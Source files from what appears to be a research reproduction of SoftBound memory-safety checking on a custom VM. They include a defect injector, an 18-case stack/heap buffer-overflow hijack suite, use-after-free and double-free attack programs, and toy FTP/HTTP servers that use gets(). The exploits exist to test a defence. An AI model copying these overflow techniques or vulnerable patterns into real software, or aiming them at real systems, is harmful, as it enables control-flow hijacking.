            f"wild write {stride} ints past a stack array (leaves the "
            f"stack segment entirely)")


def _defect_use_after_free(rng):
    """Temporal: write through a heap pointer after free (the range is
    not reused, so quarantine/addressability checkers see it too)."""
    length = rng.randint(4, 8)
    lines = [
        f"{_I}int *fzu = (int *)malloc({length} * sizeof(int));",
        f"{_I}fzu[0] = {rng.randint(1, 50)};",
        f"{_I}free(fzu);",
        f"{_I}fzu[1] = {rng.randint(1, 50)};",
    ]
    return (lines, (), "use_after_free",
            f"write through a freed {length}-int heap block")


def _defect_double_free(rng):
    """Temporal: the same heap block released twice."""
    size = rng.choice((8, 16, 24, 32))
    lines = [
        f"{_I}char *fzd = (char *)malloc({size});",
        f"{_I}free(fzd);",
        f"{_I}free(fzd);",
    ]
    return (lines, (), "double_free", f"double free of a {size}-byte block")


def _defect_dangling_stack(rng):
    """Temporal: dereference a pointer into a torn-down stack frame."""
    value = rng.randint(1, 60)
    decl = (f"int *fz_leak(void) {{ int fzx = {value}; return &fzx; }}")
    lines = [
        f"{_I}int *fzs = fz_leak();",
        f"{_I}check = (check + *fzs) & 0xffff;",
    ]
    return (lines, (decl,), "dangling_stack",
            "read through a pointer into a returned function's frame")


#: Defect name -> builder, grouped spatial-first (ordering is part of
#: the deterministic mutation contract — do not reorder casually).
DEFECTS = OrderedDict([
    ("off_by_one_index", _defect_off_by_one_index),
    ("heap_off_by_one", _defect_heap_off_by_one),
    ("subobject_overflow", _defect_subobject_overflow),
    ("wild_pointer", _defect_wild_pointer),
    ("use_after_free", _defect_use_after_free),
    ("double_free", _defect_double_free),
    ("dangling_stack", _defect_dangling_stack),
])

SPATIAL_DEFECTS = ("off_by_one_index", "heap_off_by_one",
                   "subobject_overflow", "wild_pointer")
TEMPORAL_DEFECTS = ("use_after_free", "double_free", "dangling_stack")

#: Multiplicative hash decorrelating the mutation stream from the
#: generation stream (both are seeded by plain ints, never strings, so
#: they are stable under PYTHONHASHSEED).
_MUTATE_SALT = 0x9E3779B9


def mutate(program, defect=None, rng=None):
    """Inject one ``defect`` into a clean :class:`RandomProgram`.

    ``defect`` defaults to an rng-driven choice over :data:`DEFECTS`;
    ``rng`` defaults to a deterministic stream derived from the
    program's seed.  Returns a :class:`MutatedProgram`.
    """
    if rng is None:
        rng = random.Random(((program.seed * 2654435761) ^ _MUTATE_SALT)
                            & 0xFFFFFFFF)
    if defect is None:
        defect = rng.choice(list(DEFECTS))
    try:
        builder = DEFECTS[defect]
    except KeyError:
        raise ValueError(f"unknown defect {defect!r}; known: "
                         f"{', '.join(DEFECTS)}") from None
    lines, extra_decls, expected_class, description = builder(rng)
    source = _assemble(program.helpers,
                       program.body_lines + tuple(lines) + program.fold_lines,
                       extra_decls=extra_decls)
    return MutatedProgram(source, program.seed,
                          program.statement_count + len(lines),
                          defect=defect, expected_class=expected_class,
                          description=description,
                          base_source=program.source)


def generate_mutated(seed, defect=None, max_statements=14):
    """Generate a clean program from ``seed`` and inject one defect
    (chosen deterministically from the seed unless named).  The result
    is byte-stable across processes for a fixed ``(seed, defect)``."""
    return mutate(generate(seed, max_statements), defect=defect)
