"""The Wilander & Kamkar attack suite (paper Table 3).

Eighteen attack forms in the paper's four groups:

1. buffer overflow **on the stack all the way to the target** (6 targets:
   return address, old base pointer, function-pointer local,
   function-pointer parameter, longjmp buffer local, longjmp buffer
   parameter);
2. buffer overflow **on heap/BSS/data all the way to the target**
   (function pointer, longjmp buffer);
3. buffer overflow **of a pointer on the stack, then pointing it at the
   target** (6 targets as in group 1);
4. buffer overflow **of a pointer on heap/BSS, then pointing it at the
   target** (return address, old base pointer, function pointer,
   longjmp buffer).

Every attack genuinely works against the unprotected VM: the payload
function runs (exiting with :data:`~repro.vm.errors.ATTACK_EXIT_CODE`)
or the VM reports the control-flow hijack at the corrupted return /
longjmp.  Every attack performs at least one out-of-bounds *write*, so
both SoftBound modes must stop it — the all-"yes" column pair of
Table 3.

Frame-layout facts the attacker exploits (documented VM ABI, mirroring
x86): body locals sit at the frame base in declaration order, parameter
spill slots above them, then the saved frame pointer and the return
address.  A frame whose only local is ``char buf[N]`` therefore has its
saved FP at ``buf + N`` and its return address at ``buf + N + 8``.
"""

from collections import OrderedDict
from dataclasses import dataclass

_PAYLOAD = r'''
void attack_payload(void) {
    printf("PWNED\n");
    exit(66);
}
void safe_handler(void) {
    printf("safe\n");
}
'''


@dataclass(frozen=True)
class Attack:
    name: str
    group: str
    technique: str
    location: str
    target: str
    source: str


def _attack(name, group, technique, location, target, body):
    return Attack(name=name, group=group, technique=technique,
                  location=location, target=target,
                  source=_PAYLOAD + body)


ATTACKS = OrderedDict()


def _register(attack):
    ATTACKS[attack.name] = attack
    return attack


# ---------------------------------------------------------------------------
# Group 1: buffer overflow on the stack all the way to the target.
# ---------------------------------------------------------------------------

_register(_attack(
    "stack_direct_ret", "stack_direct", "direct overflow", "stack",
    "Return address", r'''
void victim(void) {
    char buf[24];
    long *p = (long *)buf;
    /* spray the payload address over buf, saved FP and return address */
    for (int i = 0; i < 5; i++) p[i] = (long)attack_payload;
}
int main(void) {
    victim();
    return 0;
}
'''))

_register(_attack(
    "stack_direct_old_bp", "stack_direct", "direct overflow", "stack",
    "Old base pointer", r'''
long fake_frame[2];
void victim(void) {
    char buf[16];
    fake_frame[0] = 0;                      /* fake saved FP */
    fake_frame[1] = (long)attack_payload;   /* fake return address */
    long *p = (long *)buf;
    p[2] = (long)fake_frame;   /* exactly the saved-FP slot (buf+16) */
}
int main(void) {
    victim();     /* victim returns fine; main's return then uses the
                     corrupted frame pointer and jumps to the payload */
    return 0;
}
'''))

_register(_attack(
    "stack_direct_fnptr_local", "stack_direct", "direct overflow", "stack",
    "Function ptr local variable", r'''
struct frame_vars { char buf[16]; void (*handler)(void); };
void victim(void) {
    struct frame_vars v;
    v.handler = safe_handler;
    long *p = (long *)v.buf;
    p[2] = (long)attack_payload;   /* overflow buf into handler */
    v.handler();
}
int main(void) {
    victim();
    return 0;
}
'''))

_register(_attack(
    "stack_direct_fnptr_param", "stack_direct", "direct overflow", "stack",
    "Function ptr parameter", r'''
void victim(void (*handler)(void)) {
    char buf[16];
    void (**keep)(void) = &handler;   /* parameter lives in memory */
    long *p = (long *)buf;
    p[2] = (long)attack_payload;      /* param spill slot sits at buf+16 */
    (*keep)();
}
int main(void) {
    victim(safe_handler);
    return 0;
}
'''))

_register(_attack(
    "stack_direct_longjmp_local", "stack_direct", "direct overflow", "stack",
    "Longjmp buffer local variable", r'''
void victim(void) {
    char buf[16];
    jmp_buf env;
    if (setjmp(env)) return;
    long *p = (long *)buf;
    p[3] = (long)attack_payload;   /* env's resume-target slot (buf+24) */
    longjmp(env, 1);
}
int main(void) {
    victim();
    return 0;
}
'''))

_register(_attack(
    "stack_direct_longjmp_param", "stack_direct", "direct overflow", "stack",
    "Longjmp buffer function parameter", r'''
long fake_env[2];
void victim(long *env) {
    char buf[16];
    long **keep = &env;            /* parameter lives in memory */
    fake_env[1] = (long)attack_payload;
    long *p = (long *)buf;
    p[2] = (long)fake_env;         /* overwrite the env parameter (buf+16) */
    longjmp(*keep, 1);
}
int main(void) {
    jmp_buf env;
    if (setjmp(env)) return 0;
    victim(env);
    return 0;
}
'''))

# ---------------------------------------------------------------------------
# Group 2: buffer overflow on heap / BSS / data all the way to the target.
# ---------------------------------------------------------------------------

_register(_attack(
    "heap_direct_fnptr", "heap_direct", "direct overflow", "heap",
    "Function pointer", r'''
struct handler_box { char buf[16]; void (*handler)(void); };
int main(void) {
    struct handler_box *box =
        (struct handler_box *)malloc(sizeof(struct handler_box));
    box->handler = safe_handler;
    char *b = box->buf;
    long *p = (long *)b;
    p[2] = (long)attack_payload;   /* overflow buf into handler */
    box->handler();
    return 0;
}
'''))

_register(_attack(
    "bss_direct_longjmp", "heap_direct", "direct overflow", "bss",
    "Longjmp buffer", r'''
char global_buf[16];
jmp_buf global_env;
int main(void) {
    if (setjmp(global_env)) return 0;
    long *p = (long *)global_buf;
    p[3] = (long)attack_payload;   /* global_env resume slot (buf+24) */
    longjmp(global_env, 1);
    return 0;
}
'''))

# ---------------------------------------------------------------------------
# Group 3: overflow a *pointer* on the stack, then write through it.
# ---------------------------------------------------------------------------

_STACK_PTR_PREAMBLE = r'''
struct vuln { char buf[16]; long *ptr; };
'''

_register(_attack(
    "stack_ptr_ret", "stack_ptr", "pointer redirect", "stack",
    "Return address", _STACK_PTR_PREAMBLE + r'''
void victim(void) {
    struct vuln v;
    long *p = (long *)v.buf;
    /* overflow rewrites v.ptr to aim at the return-address slot
       (frame base + sizeof(v) + 8) */
    p[2] = (long)((char *)&v + sizeof(struct vuln) + 8);
    *v.ptr = (long)attack_payload;   /* attacker-controlled write */
}
int main(void) {
    victim();
    return 0;
}
'''))

_register(_attack(
    "stack_ptr_base_ptr", "stack_ptr", "pointer redirect", "stack",
    "Base pointer", _STACK_PTR_PREAMBLE + r'''
long fake_frame[2];
void victim(void) {
    struct vuln v;
    fake_frame[1] = (long)attack_payload;
    long *p = (long *)v.buf;
    p[2] = (long)((char *)&v + sizeof(struct vuln));   /* saved-FP slot */
    *v.ptr = (long)fake_frame;
}
int main(void) {
    victim();
    return 0;
}
'''))

_register(_attack(
    "stack_ptr_fnptr_local", "stack_ptr", "pointer redirect", "stack",
    "Function pointer variable", _STACK_PTR_PREAMBLE + r'''
void victim(void) {
    struct vuln v;
    void (*handler)(void) = safe_handler;
    void (**hp)(void) = &handler;          /* keep handler in memory */
    long *p = (long *)v.buf;
    p[2] = (long)hp;                       /* aim v.ptr at handler */
    *v.ptr = (long)attack_payload;
    (*hp)();
}
int main(void) {
    victim();
    return 0;
}
'''))

_register(_attack(
    "stack_ptr_fnptr_param", "stack_ptr", "pointer redirect", "stack",
    "Function pointer parameter", _STACK_PTR_PREAMBLE + r'''
void victim(void (*handler)(void)) {
    struct vuln v;
    void (**hp)(void) = &handler;
    long *p = (long *)v.buf;
    p[2] = (long)hp;
    *v.ptr = (long)attack_payload;
    (*hp)();
}
int main(void) {
    victim(safe_handler);
    return 0;
}
'''))

_register(_attack(
    "stack_ptr_longjmp_local", "stack_ptr", "pointer redirect", "stack",
    "Longjmp buffer variable", _STACK_PTR_PREAMBLE + r'''
void victim(void) {
    struct vuln v;
    jmp_buf env;
    if (setjmp(env)) return;
    long *p = (long *)v.buf;
    p[2] = (long)(env + 1);          /* env's resume-target slot */
    *v.ptr = (long)attack_payload;
    longjmp(env, 1);
}
int main(void) {
    victim();
    return 0;
}
'''))

_register(_attack(
    "stack_ptr_longjmp_param", "stack_ptr", "pointer redirect", "stack",
    "Longjmp buffer function parameter", _STACK_PTR_PREAMBLE + r'''
void victim(long *env) {
    struct vuln v;
    long *p = (long *)v.buf;
    p[2] = (long)(env + 1);          /* caller's env resume slot */
    *v.ptr = (long)attack_payload;
    longjmp(env, 1);
}
int main(void) {
    jmp_buf env;
    if (setjmp(env)) return 0;
    victim(env);
    return 0;
}
'''))

# ---------------------------------------------------------------------------
# Group 4: overflow a pointer on heap/BSS, then write through it.
# ---------------------------------------------------------------------------

_HEAP_PTR_PREAMBLE = r'''
struct vuln { char buf[16]; long *ptr; };
struct vuln *box;
'''

_register(_attack(
    "heap_ptr_ret", "heap_ptr", "pointer redirect", "heap",
    "Return address", _HEAP_PTR_PREAMBLE + r'''
void victim(void) {
    char anchor[8];
    /* return-address slot of this frame: anchor + 8 (locals) + 8 */
    long *p = (long *)box->buf;
    p[2] = (long)(anchor + 16);
    *box->ptr = (long)attack_payload;
}
int main(void) {
    box = (struct vuln *)malloc(sizeof(struct vuln));
    victim();
    return 0;
}
'''))

_register(_attack(
    "heap_ptr_old_bp", "heap_ptr", "pointer redirect", "heap",
    "Old base pointer", _HEAP_PTR_PREAMBLE + r'''
long fake_frame[2];
void victim(void) {
    char anchor[8];
    fake_frame[1] = (long)attack_payload;
    long *p = (long *)box->buf;
    p[2] = (long)(anchor + 8);       /* saved-FP slot of this frame */
    *box->ptr = (long)fake_frame;
}
int main(void) {
    box = (struct vuln *)malloc(sizeof(struct vuln));
    victim();
    return 0;
}
'''))

_register(_attack(
    "bss_ptr_fnptr", "heap_ptr", "pointer redirect", "bss",
    "Function pointer", _HEAP_PTR_PREAMBLE + r'''
void (*global_handler)(void);
struct vuln global_box;
int main(void) {
    global_handler = safe_handler;
    long *p = (long *)global_box.buf;
    p[2] = (long)&global_handler;
    *global_box.ptr = (long)attack_payload;
    global_handler();
    return 0;
}
'''))

_register(_attack(
    "bss_ptr_longjmp", "heap_ptr", "pointer redirect", "bss",
    "Longjmp buffer", _HEAP_PTR_PREAMBLE + r'''
jmp_buf global_env;
struct vuln global_box;
int main(void) {
    if (setjmp(global_env)) return 0;
    long *p = (long *)global_box.buf;
    p[2] = (long)(global_env + 1);
    *global_box.ptr = (long)attack_payload;
    longjmp(global_env, 1);
    return 0;
}
'''))


def all_attacks():
    return list(ATTACKS.values())


def attack(name):
    return ATTACKS[name]
