"""Workloads: benchmark analogues, attack suite, BugBench, server studies."""

from .attacks import ATTACKS, all_attacks, attack
from .bugbench import BUGBENCH, all_bugs, bug
from .programs import FIGURE1_ORDER, WORKLOADS, all_workloads, workload
from .servers import SERVERS, all_servers

__all__ = ["ATTACKS", "all_attacks", "attack", "BUGBENCH", "all_bugs", "bug",
           "WORKLOADS", "FIGURE1_ORDER", "all_workloads", "workload",
           "SERVERS", "all_servers"]
