"""BugBench analogues (paper Table 4, Lu et al.'s suite).

Four buggy programs whose *bug class* reproduces the paper's detection
matrix.  The paper's Table 4:

=============  ========  =======  ==========  =========
benchmark      Valgrind  Mudflap  SB (store)  SB (full)
=============  ========  =======  ==========  =========
go             no        no       no          yes
compress       no        yes      yes         yes
polymorph      yes       yes      yes         yes
gzip           yes       yes      yes         yes
=============  ========  =======  ==========  =========

The bug classes that produce exactly this matrix:

* **go** — a *read* overflow out of an array nested in a global struct:
  sub-object, so object-granularity Mudflap misses it; not heap, so
  Valgrind misses it; a load, so store-only SoftBound misses it; only
  full SoftBound (shrunk bounds) catches it.
* **compress** — a *write* overflow of a stack buffer: Valgrind's
  addressability tracking does not cover the stack; everything else
  catches an object-crossing write.
* **polymorph** / **gzip** — heap *write* overflows (an off-by-N index
  walk and an unchecked filename strcpy respectively): every tool sees
  those.
"""

from collections import OrderedDict
from dataclasses import dataclass


@dataclass(frozen=True)
class BugProgram:
    name: str
    description: str
    bug_class: str
    source: str
    #: Paper Table 4 row: (valgrind, mudflap, sb_store, sb_full).
    paper_detection: tuple


BUGBENCH = OrderedDict()


def _register(bug):
    BUGBENCH[bug.name] = bug
    return bug


_register(BugProgram(
    name="go",
    description="board evaluator with a sub-object read overflow in a "
                "global game-state struct",
    bug_class="sub-object read overflow (global struct)",
    paper_detection=(False, False, False, True),
    source=r'''
struct game_state {
    int board[81];        /* 9x9 board */
    int move_history[16];
    int score;
};
struct game_state game;

int evaluate(int pos) {
    int *cell = game.board;
    int value = 0;
    /* BUG: neighbour scan runs one row past the board array and reads
       into move_history — inside the same struct. */
    for (int d = 0; d <= 9; d++)
        value += cell[pos + d * 9 % 90];
    return value;
}

int main(void) {
    game.score = 0;
    for (int i = 0; i < 81; i++) game.board[i] = (i * 7) % 3;
    for (int i = 0; i < 16; i++) game.move_history[i] = 1000 + i;
    int total = 0;
    for (int pos = 0; pos < 9; pos++) total += evaluate(pos);
    game.score = total;
    return total % 256;
}
'''))

_register(BugProgram(
    name="compress",
    description="run-length encoder with an unchecked stack output buffer",
    bug_class="stack write overflow",
    paper_detection=(False, True, True, True),
    source=r'''
char source_data[128];

int encode(void) {
    char out[32];
    int out_len = 0;
    int i = 0;
    while (i < 128) {
        int run = 1;
        while (i + run < 128 && source_data[i + run] == source_data[i]) run++;
        /* BUG: no bounds check on out; enough distinct runs overflow it. */
        out[out_len] = (char)run;
        out[out_len + 1] = source_data[i];
        out_len += 2;
        i += run;
    }
    int checksum = 0;
    for (int k = 0; k < out_len && k < 32; k++) checksum += out[k];
    return checksum;
}

int main(void) {
    srand(9);
    for (int i = 0; i < 128; i++) source_data[i] = 'a' + rand() % 26;
    return encode() % 256;
}
'''))

_register(BugProgram(
    name="polymorph",
    description="filename normalizer that writes one transformed name per "
                "slot past its heap table",
    bug_class="heap write overflow (index walk)",
    paper_detection=(True, True, True, True),
    source=r'''
int main(void) {
    int *table = (int *)malloc(16 * sizeof(int));
    /* BUG: classic off-by-N — loop bound counts an extra batch. */
    for (int i = 0; i <= 16; i++)
        table[i] = i * 3;
    int total = 0;
    for (int i = 0; i < 16; i++) total += table[i];
    return total % 256;
}
'''))

_register(BugProgram(
    name="gzip",
    description="archive tool copying an attacker-length name into a "
                "fixed heap buffer",
    bug_class="heap write overflow (unchecked strcpy)",
    paper_detection=(True, True, True, True),
    source=r'''
char long_name[64];

int main(void) {
    for (int i = 0; i < 40; i++) long_name[i] = 'A' + i % 26;
    long_name[40] = 0;
    char *ofname = (char *)malloc(24);
    /* BUG: gzip's unchecked filename copy. */
    strcpy(ofname, long_name);
    return (int)strlen(ofname) % 256;
}
'''))


def all_bugs():
    return list(BUGBENCH.values())


def bug(name):
    return BUGBENCH[name]
