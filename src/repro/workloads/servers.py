"""Network-daemon analogues for the compatibility case study (paper §6.4).

The paper applied SoftBound to tinyftp-0.2 and NullLogic nhttpd-0.5.1
"without requiring any source code modifications and no false positives
during program execution".  These two programs reproduce that workload
shape — request parsing, command dispatch through function pointers,
per-session state, string handling, dynamic buffers — driven by a
synthetic request stream on the VM's stdin instead of a socket (the VM
has no network; the parsing and buffer-handling code paths, which are
what SoftBound instruments, are identical in kind).

Both are *correct* programs: the compatibility claim is that they
transform unmodified and run with zero false positives, which tests and
``benchmarks/bench_sec64_compat.py`` verify under every configuration.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class ServerProgram:
    name: str
    description: str
    source: str
    request_stream: bytes
    expected_output_fragments: tuple


FTP_SERVER = ServerProgram(
    name="tinyftp",
    description="FTP-like command processor (command table of function "
                "pointers, session state, path handling)",
    request_stream=(
        b"USER alice\n"
        b"PASS secret\n"
        b"CWD /srv/files\n"
        b"LIST\n"
        b"RETR readme.txt\n"
        b"STOR upload.bin\n"
        b"NOOP\n"
        b"QUIT\n"
    ),
    expected_output_fragments=("230 user logged in", "226 transfer complete", "221 goodbye"),
    source=r'''
struct session {
    char user[32];
    char cwd[64];
    int logged_in;
    int transfers;
};

struct session sess;

int starts_with(char *line, char *prefix) {
    int n = (int)strlen(prefix);
    return strncmp(line, prefix, n) == 0;
}

void reply(char *code, char *text) {
    printf("%s %s\n", code, text);
}

int cmd_user(char *arg) {
    strncpy(sess.user, arg, 31);
    sess.user[31] = 0;
    reply("331", "need password");
    return 0;
}

int cmd_pass(char *arg) {
    sess.logged_in = 1;
    reply("230", "user logged in");
    return 0;
}

int cmd_cwd(char *arg) {
    if (!sess.logged_in) { reply("530", "not logged in"); return 0; }
    strncpy(sess.cwd, arg, 63);
    sess.cwd[63] = 0;
    reply("250", "directory changed");
    return 0;
}

int cmd_list(char *arg) {
    if (!sess.logged_in) { reply("530", "not logged in"); return 0; }
    printf("150 listing %s\n", sess.cwd);
    printf("-rw-r--r-- readme.txt\n-rw-r--r-- data.bin\n");
    reply("226", "transfer complete");
    return 0;
}

int cmd_retr(char *arg) {
    if (!sess.logged_in) { reply("530", "not logged in"); return 0; }
    char path[128];
    snprintf(path, 128, "%s/%s", sess.cwd, arg);
    printf("150 sending %s\n", path);
    sess.transfers++;
    reply("226", "transfer complete");
    return 0;
}

int cmd_stor(char *arg) {
    if (!sess.logged_in) { reply("530", "not logged in"); return 0; }
    char *buf = (char *)malloc(256);
    snprintf(buf, 256, "%s/%s", sess.cwd, arg);
    printf("150 receiving %s\n", buf);
    free(buf);
    sess.transfers++;
    reply("226", "transfer complete");
    return 0;
}

int cmd_noop(char *arg) { reply("200", "ok"); return 0; }
int cmd_quit(char *arg) { reply("221", "goodbye"); return 1; }

struct command { char name[8]; int (*handler)(char *); };
struct command table[8];

void init_table(void) {
    strcpy(table[0].name, "USER"); table[0].handler = cmd_user;
    strcpy(table[1].name, "PASS"); table[1].handler = cmd_pass;
    strcpy(table[2].name, "CWD");  table[2].handler = cmd_cwd;
    strcpy(table[3].name, "LIST"); table[3].handler = cmd_list;
    strcpy(table[4].name, "RETR"); table[4].handler = cmd_retr;
    strcpy(table[5].name, "STOR"); table[5].handler = cmd_stor;
    strcpy(table[6].name, "NOOP"); table[6].handler = cmd_noop;
    strcpy(table[7].name, "QUIT"); table[7].handler = cmd_quit;
}

int main(void) {
    init_table();
    sess.logged_in = 0;
    sess.transfers = 0;
    strcpy(sess.cwd, "/");
    char line[128];
    int done = 0;
    while (!done) {
        line[0] = 0;
        gets(line);
        if (strlen(line) == 0) break;
        char *arg = strchr(line, ' ');
        if (arg) { *arg = 0; arg = arg + 1; } else { arg = line + strlen(line); }
        int handled = 0;
        for (int i = 0; i < 8; i++) {
            if (strcmp(line, table[i].name) == 0) {
                done = table[i].handler(arg);
                handled = 1;
                break;
            }
        }
        if (!handled) reply("502", "command not implemented");
    }
    return sess.transfers;
}
''')


HTTP_SERVER = ServerProgram(
    name="nhttpd",
    description="HTTP-like request handler (header parsing, routing, "
                "dynamic response buffers)",
    request_stream=(
        b"GET /index.html HTTP/1.0\n"
        b"GET /api/status HTTP/1.0\n"
        b"POST /api/echo hello-world\n"
        b"GET /missing HTTP/1.0\n"
        b"SHUTDOWN\n"
    ),
    expected_output_fragments=("200 OK", "404 Not Found", "echo:hello-world"),
    source=r'''
struct route { char path[24]; int code; };
struct route routes[3];
int requests_served;

void respond(int code, char *reason, char *body) {
    printf("HTTP/1.0 %d %s\n", code, reason);
    printf("Content-Length: %d\n\n", (int)strlen(body));
    if (strlen(body) > 0) printf("%s\n", body);
    requests_served++;
}

void handle_get(char *path) {
    for (int i = 0; i < 3; i++) {
        if (strcmp(path, routes[i].path) == 0) {
            char *body = (char *)malloc(64);
            snprintf(body, 64, "resource %s", path);
            respond(routes[i].code, "OK", body);
            free(body);
            return;
        }
    }
    respond(404, "Not Found", "");
}

void handle_post(char *path, char *payload) {
    char *body = (char *)malloc(128);
    snprintf(body, 128, "echo:%s", payload);
    respond(200, "OK", body);
    free(body);
}

int main(void) {
    strcpy(routes[0].path, "/index.html"); routes[0].code = 200;
    strcpy(routes[1].path, "/api/status"); routes[1].code = 200;
    strcpy(routes[2].path, "/favicon.ico"); routes[2].code = 200;
    requests_served = 0;
    char line[256];
    while (1) {
        line[0] = 0;
        gets(line);
        if (strlen(line) == 0) break;
        if (strncmp(line, "SHUTDOWN", 8) == 0) break;
        char *path = strchr(line, ' ');
        if (!path) { respond(400, "Bad Request", ""); continue; }
        *path = 0;
        path = path + 1;
        char *rest = strchr(path, ' ');
        if (rest) { *rest = 0; rest = rest + 1; }
        else rest = path + strlen(path);
        if (strcmp(line, "GET") == 0) handle_get(path);
        else if (strcmp(line, "POST") == 0) handle_post(path, rest);
        else respond(405, "Method Not Allowed", "");
    }
    return requests_served;
}
''')

SERVERS = (FTP_SERVER, HTTP_SERVER)


def all_servers():
    return list(SERVERS)
