"""The temporal attack suite: dangling-pointer exploits.

The paper positions spatial checking as one half of complete memory
safety and defers dangling-pointer detection to a companion mechanism;
these programs are the scenarios that companion must stop.  Every
attack here is *invisible to spatial checking by construction*: the
stale pointer's (base, bound) still describe the dead object's extent,
so every dereference is comfortably "in bounds" — what died is the
allocation, not the address range.  Five attack classes:

* **use-after-free read** — the freed block is re-allocated to a new
  owner; the stale pointer reads (leaks) the new owner's data.
* **use-after-free write** — the stale pointer *writes* into the new
  owner, corrupting a function pointer: a control-flow hijack that
  neither SoftBound mode can see spatially.
* **double free** — the same pointer freed twice (the classic allocator
  corruption primitive; this VM's allocator ignores the second free,
  as glibc may, so unprotected runs are silently wrong rather than
  crashed).
* **realloc stale** — ``realloc`` moves the block; a pointer to the old
  location keeps its old bounds and reads whatever re-uses the memory.
* **dangling stack frame** — a function returns the address of a
  local; a later call re-uses the stack region and the dangling read
  observes the new frame's data.

Plus a **key-collision stress**: lock *slots* are recycled after
``free``, so a correct lock-and-key scheme must distinguish a dead
pointer from a new allocation that inherited its slot — keys are never
reused, which the churn loop exercises.

As with the Wilander suite, every attack genuinely works against the
unprotected VM (payload exit :data:`~repro.vm.errors.ATTACK_EXIT_CODE`
or observable leak), runs to the same wrong result under spatial-only
SoftBound, and traps with a ``temporal_violation`` under
``SoftBoundConfig(temporal=True)``.
"""

from collections import OrderedDict
from dataclasses import dataclass

_PAYLOAD = r'''
void attack_payload(void) {
    printf("PWNED\n");
    exit(66);
}
void safe_handler(void) {
    printf("safe\n");
}
'''


@dataclass(frozen=True)
class TemporalAttack:
    name: str
    kind: str
    description: str
    source: str


TEMPORAL_ATTACKS = OrderedDict()


def _register(attack):
    TEMPORAL_ATTACKS[attack.name] = attack
    return attack


_register(TemporalAttack(
    name="uaf_read",
    kind="use_after_free",
    description="freed block re-allocated to a new owner; stale pointer "
                "leaks the new owner's secret",
    source=r'''
int main(void) {
    long *stale = (long *)malloc(32);
    stale[0] = 1111;
    free(stale);
    long *secret = (long *)malloc(32);   /* first-fit: the same block */
    secret[0] = 424242;
    long leaked = stale[0];              /* use-after-free read */
    printf("leaked %ld\n", leaked);
    return leaked == 424242 ? 66 : 0;
}
'''))

_register(TemporalAttack(
    name="uaf_write",
    kind="use_after_free",
    description="stale pointer writes over the new owner's function "
                "pointer: a control-flow hijack spatial checking cannot see",
    source=_PAYLOAD + r'''
struct handler_box { void (*handler)(void); long pad; };
int main(void) {
    long *stale = (long *)malloc(16);
    stale[0] = 0;
    free(stale);
    struct handler_box *box =
        (struct handler_box *)malloc(sizeof(struct handler_box));
    box->handler = safe_handler;
    stale[0] = (long)attack_payload;     /* use-after-free write */
    box->handler();
    return 0;
}
'''))

_register(TemporalAttack(
    name="double_free",
    kind="double_free",
    description="the same allocation freed twice (this VM's allocator, "
                "like glibc in some modes, silently ignores the second "
                "free; temporal checking traps it)",
    source=r'''
int main(void) {
    char *a = (char *)malloc(24);
    char *b = (char *)malloc(24);
    a[0] = 'a';
    b[0] = 'b';
    free(a);
    free(a);        /* double free */
    free(b);
    printf("done\n");
    return 0;
}
'''))

_register(TemporalAttack(
    name="realloc_stale",
    kind="realloc_stale",
    description="realloc moves the block; the pre-realloc pointer reads "
                "whatever re-uses the old memory",
    source=r'''
int main(void) {
    long *buf = (long *)malloc(32);
    buf[0] = 7;
    long *alias = buf;
    long *grown = (long *)realloc(buf, 4096);   /* forced to move */
    grown[0] = grown[0] + 1;
    long *fresh = (long *)malloc(32);   /* lands on the old block */
    fresh[0] = 999;
    long v = alias[0];                  /* stale read through old block */
    printf("stale %ld\n", v);
    return v == 999 ? 66 : 0;
}
'''))

_register(TemporalAttack(
    name="dangling_stack",
    kind="dangling_stack",
    description="a function returns the address of a local; a later call "
                "re-uses the stack region and the dangling read observes "
                "the new frame",
    source=r'''
long *make(void) {
    long local[4];
    local[0] = 5;
    return local;       /* dangling: the frame dies at return */
}
long clobber(long x) {
    long other[4];      /* same frame shape: lands on make's local */
    other[0] = x;
    return other[0];
}
int main(void) {
    long *p = make();
    clobber(777);
    long v = *p;        /* dangling stack read */
    printf("dangling %ld\n", v);
    return v == 777 ? 66 : 0;
}
'''))

_register(TemporalAttack(
    name="key_collision_stress",
    kind="key_collision",
    description="malloc/free churn recycles lock slots; a stale pointer "
                "whose slot now holds a fresh allocation's key must still "
                "trap (keys are never reused)",
    source=r'''
int main(void) {
    long *stale = (long *)malloc(32);
    stale[0] = 1;
    free(stale);
    long total = 0;
    for (int i = 0; i < 64; i++) {      /* recycle lock slots hard */
        long *p = (long *)malloc(32);
        p[0] = i;
        total += p[0];
        free(p);
    }
    long *live = (long *)malloc(32);    /* same block, recycled slot */
    live[0] = 31337;
    long v = stale[0];                  /* dead key, live slot */
    printf("v %ld total %ld\n", v, total);
    return v == 31337 ? 66 : 0;
}
'''))


def all_temporal_attacks():
    return list(TEMPORAL_ATTACKS.values())


def temporal_attack(name):
    return TEMPORAL_ATTACKS[name]
