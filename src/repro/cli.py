"""Command-line interface: ``python -m repro <command>``.

Commands
--------
run FILE
    Compile and execute a C file on the VM, optionally under SoftBound
    (``--profile NAME`` or the individual checking flags); ``--json``
    emits the structured :class:`~repro.api.RunReport`.
check FILE
    Shorthand for ``run FILE --profile spatial`` (``--temporal`` →
    ``--profile temporal``), exiting non-zero on a violation — the
    "drop-in checker" workflow.
profile PROG
    Check-site profiler: run a workload or C file and rank source
    sites by executed sb_check / sb_temporal_check / sb_meta_load
    counts (identical under both engines); ``--json`` for tooling.
profiles
    List the registered protection profiles.
tables [NAME]
    Regenerate the paper's tables/figures (all of them, or one by name).
workloads
    List the built-in benchmark analogues.
bench
    Time the workload corpus under both VM engines (reference
    interpreter vs closure-compiled) and print/record the speedups.
cache stats|verify|gc
    Operate the persistent compiled-artifact store (``REPRO_STORE`` /
    ``--store DIR``): show counters, re-validate + quarantine entries
    (exit 1 when corruption was found), enforce the size bounds.

Every command executes through the :mod:`repro.api` facade.  A global
``--trace PATH`` (or ``REPRO_TRACE=PATH``) emits a JSON-lines span
trace of whatever the command does; see ``docs/OBSERVABILITY.md``.

Exit status is deterministic: the program's own exit code for clean
runs; 2 when a spatial check stopped the program (including the
vararg/function-pointer signature checks); 3 for a temporal
(lock-and-key) violation; 4 for compile/link errors; 5 for VM-level
traps the checkers did not cause (segfault, hijack, resource limits);
64 for usage errors.
"""

import argparse
import json
import sys

EX_OK = 0
EX_SPATIAL = 2
EX_TEMPORAL = 3
EX_COMPILE = 4
EX_TRAP = 5
EX_USAGE = 64

_TABLE_NAMES = ("table1", "table3", "table4", "figure1", "figure2",
                "sec64", "sec65", "metadata", "temporal")


def exit_code_for(report):
